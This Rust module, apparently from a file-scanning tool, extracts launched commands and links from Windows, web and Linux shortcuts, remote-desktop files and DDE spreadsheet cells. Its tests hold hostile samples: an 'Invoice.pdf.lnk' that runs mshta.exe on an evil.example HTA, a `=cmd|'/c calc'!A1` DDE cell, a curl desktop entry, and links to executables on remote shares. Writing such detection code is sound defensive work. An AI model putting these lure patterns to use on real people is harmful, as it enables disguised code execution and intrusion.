//! Shortcuts: of Windows ([MS-SHLLINK]), to the web (.url, .webloc), of Linux desktops; and the few text formats that act alike.

use banner_core::readings::{Feature, Kind};

use super::bytes::{place_at, slice, starts, text as text_of, u16_at, u32_at, utf16};
use super::hyperlinks;
use super::reading::Reading;
use super::xml;

/// At most this much of a text is read.
const LONGEST: usize = 256 * 1024;

/// Reads a shortcut of Windows: what it starts, with which arguments.
pub(super) fn windows(reading: &mut Reading, bytes: &[u8]) {
    if let Some(command) = command(bytes) {
        for address in addresses(&command) {
            reading.leads_to(&address);
        }
        reading.runs(&command);
    }
    reading.does(Feature::Launch);
}

/// The target and the arguments of a shortcut.
fn command(bytes: &[u8]) -> Option<String> {
    let flags = u32_at(bytes, 20)?;
    let mut at = 76;
    if flags & 1 != 0 {
        at += 2 + usize::from(u16_at(bytes, at)?);
    }
    let mut target = String::new();
    if flags & 2 != 0 {
        let info = bytes.get(at..)?;
        // VolumeIDAndLocalBasePath.
        if u32_at(info, 8)? & 1 != 0 {
            target = text_of(slice(info, place_at(info, 16)?, 1_024));
        }
        at = at.checked_add(place_at(info, 0)?)?;
    }
    let is_wide = flags & 0x80 != 0;
    let mut strings = [const { String::new() }; 5];
    for (bit, string) in strings.iter_mut().enumerate() {
        if flags & 4 << bit == 0 {
            continue;
        }
        let count = usize::from(u16_at(bytes, at)?);
        let length = if is_wide { count * 2 } else { count };
        let value = slice(bytes, at + 2, length);
        *string = if is_wide {
            utf16(value)
        } else {
            String::from_utf8_lossy(value).into_owned()
        };
        at += 2 + length;
    }
    let [_description, relative, _folder, arguments, _icon] = strings;
    if target.is_empty() {
        target = relative;
    }
    // An environment block names the target where the list of items does not.
    if target.is_empty() {
        let block = super::bytes::find(bytes, b"\x14\x03\0\0\x01\0\0\xa0", at)?;
        target = text_of(slice(bytes, block + 8, 260));
    }
    Some(format!("{target} {}", arguments.trim()).trim().to_owned())
}

/// Reads a shortcut written as text; whether it is one.
pub(super) fn text(reading: &mut Reading, bytes: &[u8], name: &str, entry: Option<usize>) -> bool {
    let lower = name.to_ascii_lowercase();
    let head = slice(bytes, 0, LONGEST);
    let begin = slice(head, 0, 512).trim_ascii_start();
    let begin = begin.strip_prefix(b"\xef\xbb\xbf").unwrap_or(begin);
    if starts(begin, b"[InternetShortcut]") || lower.ends_with(".url") {
        keys(
            reading,
            &xml::text(head),
            &["URL=", "BASEURL=", "IconFile="],
        );
    } else if starts(begin, b"[Desktop Entry]") || lower.ends_with(".desktop") {
        let text = xml::text(head);
        keys(reading, &text, &["URL="]);
        if let Some(command) = text
            .lines()
            .find_map(|line| line.trim().strip_prefix("Exec="))
        {
            reading.runs(command);
            reading.does(Feature::Launch);
        }
    } else if [".webloc", ".inetloc", ".fileloc"]
        .iter()
        .any(|ending| lower.ends_with(ending))
    {
        web_location(reading, head);
    } else if lower.ends_with(".library-ms")
        || lower.ends_with(".search-ms")
        || lower.ends_with(".searchconnector-ms")
    {
        for tag in xml::tags(&xml::text(head)).filter(|tag| tag.name == "url") {
            reading.leads_to(&xml::decoded(tag.text));
        }
    } else if lower.ends_with(".iqy") {
        for line in xml::text(head).lines() {
            reading.leads_to(line);
        }
    } else if lower.ends_with(".rdp") {
        return remote_desktop(reading, &xml::text(head));
    } else if [".csv", ".slk", ".tsv"]
        .iter()
        .any(|ending| lower.ends_with(ending))
    {
        return table(reading, &xml::text(head));
    } else {
        return false;
    }
    reading.is(entry, Kind::Shortcut);
    true
}

fn keys(reading: &mut Reading, text: &str, keys: &[&str]) {
    for line in text.lines().map(str::trim).take(200) {
        for key in keys {
            if starts(line.as_bytes(), key.as_bytes()) {
                reading.leads_to(line.get(key.len()..).unwrap_or_default());
            }
        }
    }
}

/// A property list, as XML or binary: in both the address stands as plain text.
fn web_location(reading: &mut Reading, bytes: &[u8]) {
    if !bytes.starts_with(b"bplist") {
        for tag in xml::tags(&xml::text(bytes)).filter(|tag| tag.name == "string") {
            reading.leads_to(&xml::decoded(tag.text));
        }
        return;
    }
    for address in addresses(&String::from_utf8_lossy(bytes)) {
        reading.leads_to(&address);
    }
}

/// A connection to a stranger's computer that gives it the reader's own drives.
fn remote_desktop(reading: &mut Reading, text: &str) -> bool {
    let value = |key: &str| text.lines().find_map(|line| line.trim().strip_prefix(key));
    let Some(address) = value("full address:s:") else {
        return false;
    };
    reading.runs(address);
    reading.does(Feature::Launch);
    true
}

/// A cell that starts a program when a spreadsheet opens the table: `=cmd|'/c calc'!A1`.
fn table(reading: &mut Reading, text: &str) -> bool {
    let cell = text.split([',', ';', '\t', '\n', '"']).find(|cell| {
        let Some(formula) = cell
            .trim()
            .strip_prefix(['=', '+', '-', '@'])
            .or(cell.trim().strip_prefix("E="))
        else {
            return false;
        };
        formula.split_once('|').is_some_and(|(program, rest)| {
            rest.contains('!')
                && super::excel::is_program(program.trim_start_matches(['=', '+', '-', '@']))
        })
    });
    if let Some(cell) = cell {
        reading.does(Feature::Dde);
        reading.runs(cell.trim());
    }
    cell.is_some()
}

/// The web addresses in a command or another text.
pub(super) fn addresses(text: &str) -> Vec<String> {
    let ends = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(
                c,
                '"' | '\'' | ')' | '(' | '<' | '>' | ',' | ';' | '\u{fffd}'
            )
    };
    let found = text.match_indices("http").filter_map(|(at, _)| {
        let address = text.get(at..)?.split(ends).next()?;
        (address.contains("://") && !hyperlinks::is_of_the_format(address))
            .then(|| address.to_owned())
    });
    found.take(20).collect()
}

#[cfg(test)]
mod tests {
    use super::super::fixtures::windows_shortcut;
    use super::super::read;
    use banner_core::readings::{Feature, Kind};

    #[test]
    fn the_command_of_a_windows_shortcut_is_read() {
        let shortcut = windows_shortcut(
            "..\\..\\Windows\\System32\\mshta.exe",
            "https://evil.example/a.hta",
        );
        let contents = read(&shortcut, "Invoice.pdf.lnk").unwrap();
        assert_eq!(
            contents.command.as_deref(),
            Some("..\\..\\Windows\\System32\\mshta.exe https://evil.example/a.hta")
        );
        assert_eq!(contents.links, ["https://evil.example/a.hta"]);
        assert_eq!(
            (contents.kind, contents.features),
            (Some(Kind::Shortcut), vec![Feature::Launch])
        );
    }

    #[test]
    fn shortcuts_to_the_web_lead_where_they_lead() {
        let plist = b"<?xml version='1.0'?><plist><dict><key>URL</key><string>https://evil.example/?a&amp;b</string></dict></plist>";
        for (name, bytes, link) in [
            (
                "a.url",
                b"[InternetShortcut]\r\nURL=file://192.0.2.7/share/a.exe\r\n".as_slice(),
                r"\\192.0.2.7\share\a.exe",
            ),
            (
                "a.txt",
                b"[InternetShortcut]\r\nurl=https://evil.example/",
                "https://evil.example/",
            ),
            ("a.webloc", plist, "https://evil.example/?a&b"),
            (
                "a.webloc",
                b"bplist00\xd1\x01\x02SURL_\x10\x15https://evil.example/\x08",
                "https://evil.example/",
            ),
            (
                "a.library-ms",
                b"<simpleLocation><url>\\\\192.0.2.7\\share</url></simpleLocation>",
                "\\\\192.0.2.7\\share",
            ),
            (
                "a.iqy",
                b"WEB\r\n1\r\nhttps://evil.example/q\r\n",
                "https://evil.example/q",
            ),
        ] {
            assert_eq!(read(bytes, name).unwrap().links, [link], "{name}");
        }
    }

    #[test]
    fn commands_of_desktop_entries_and_tables_are_read() {
        let contents = read(
            b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x'\n",
            "a.desktop",
        )
        .unwrap();
        assert_eq!(contents.command.as_deref(), Some("sh -c 'curl x'"));
        let contents = read(b"name,sum\nA,=cmd|'/c calc'!A1\n", "a.csv").unwrap();
        assert_eq!(contents.features, [Feature::Dde]);
        let contents = read(b"full address:s:192.0.2.7\r\n", "a.rdp").unwrap();
        assert_eq!(contents.command.as_deref(), Some("192.0.2.7"));
    }

    #[test]
    fn ordinary_texts_are_not_looked_into() {
        for (name, bytes) in [
            ("a.txt", "see https://a.example/".as_bytes()),
            ("a.csv", b"a,=SUM(A1|B2)\n"),
            ("a.ini", b"[x]\nURL=1"),
        ] {
            assert_eq!(read(bytes, name), None, "{name}");
        }
    }
}
